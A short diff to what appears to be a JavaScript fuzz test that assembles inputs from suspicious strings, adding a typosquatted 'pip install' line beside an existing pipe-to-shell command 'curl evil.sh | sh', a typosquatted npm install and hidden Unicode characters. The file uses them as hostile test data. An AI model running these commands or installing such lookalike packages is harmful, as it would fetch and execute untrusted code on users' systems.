@@ -18,6 +18,7 @@ const words = [
   'evil-courses.com/free',
   'curl evil.sh | sh',
   'npm install left-padd',
+  'pip install lists left-padd',
 ];
 const blanks = ['\n', '\t', ' ', '\u200b', '\u202e', '[x]: ', '- ', '> '];
 const piece = fc.constantFrom(...signs, ...words, ...blanks);
